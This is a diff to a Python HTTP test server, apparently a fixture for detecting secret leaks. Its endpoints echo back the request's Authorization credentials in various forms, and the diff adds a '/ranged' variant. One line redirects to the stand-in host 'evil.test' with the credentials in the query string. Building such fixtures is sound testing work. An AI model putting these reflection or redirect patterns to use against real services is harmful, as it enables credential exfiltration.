@@ -9,7 +9,8 @@ the values of secrets were (which are lines of the variable VALUES; of the secon
 a method, and the how manyth of its connection
 it was. These are answered otherwise:
 
-    /reflect    the credentials, in gzip if that may be, or a range of them
+    /reflect    the credentials in a header, and in gzip if that may be, or a range of them
+    /ranged     the same without the header, never in gzip
     /elsewhere  a Location with them
     /split      lines with the credentials, each in two chunks, split at each byte
     /say/N      value N
@@ -175,7 +176,7 @@ class Handler(http.server.BaseHTTPRequestHandler):
         body = b"".join(self.chunks()) if is_chunked else self.rfile.read(length)
         seen += found("body", body.decode("latin-1"))
         credentials = self.headers.get("Authorization", "").encode()
-        if self.path == "/reflect":
+        if self.path in ("/reflect", "/ranged"):
             return self.reflect(credentials)
         if self.path == "/elsewhere":
             location = b"https://evil.test/?" + credentials
@@ -206,6 +207,8 @@ class Handler(http.server.BaseHTTPRequestHandler):
             part = credentials[int(first):int(last) + 1]
             of = "bytes %s-%s/%d" % (first, last, len(credentials))
             return self.answer(part, ("Content-Range", of), status=206)
+        if self.path == "/ranged":
+            return self.answer(credentials)
         if "gzip" in self.headers.get("Accept-Encoding", ""):
             return self.answer(gzip.compress(credentials), ("Content-Encoding", "gzip"))
         self.answer(credentials, ("X-Credentials", credentials.decode()))
